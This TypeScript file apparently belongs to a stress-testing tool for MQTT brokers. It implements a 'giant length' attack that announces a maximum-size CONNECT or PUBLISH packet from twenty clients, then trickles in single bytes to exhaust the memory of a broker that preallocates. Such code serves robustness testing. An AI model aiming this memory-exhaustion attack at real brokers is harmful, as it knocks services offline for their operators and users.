import { PacketType } from '@cauldron/protocol';
import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { paddedLength } from './bytes.ts';

export interface GiantLengthOptions extends AttackOptions {
  /** Bytes it announces. Default 268,435,455, the most there can be. */
  readonly length?: number;
  /** Announced before it logged in, as a CONNECT. Default false: as a PUBLISH afterwards. */
  readonly beforeLogin?: boolean;
}

/**
 * Announces a huge packet and then sends a byte of it at a time, so that a broker which makes room for what is announced
 * runs out of memory. An action is a byte.
 */
export function giantLength(target: AttackTarget, options: GiantLengthOptions = {}): Attack {
  const { length = 268_435_455, beforeLogin = false } = options;
  const assault = new Assault(target, planOf({ rate: 200, clients: 20 }, options));
  const first = (beforeLogin ? PacketType.connect : PacketType.publish) << 4;
  const start = Uint8Array.of(first, ...paddedLength(length), 0, 4);
  const more = Uint8Array.of(0x61);
  if (!beforeLogin) {
    return assault.crew((client) => {
      client.write(client.step === 0 ? start : more);
      client.step += 1;
    });
  }
  const crew = Array.from({ length: assault.plan.clients }, () => assault.open());
  let turn = 0;
  return assault.run(() => {
    const number = turn % crew.length;
    turn += 1;
    if (crew[number]!.over) crew[number] = assault.open();
    const client = crew[number]!;
    client.write(client.step === 0 ? start : more);
    client.step += 1;
    return true;
  });
}
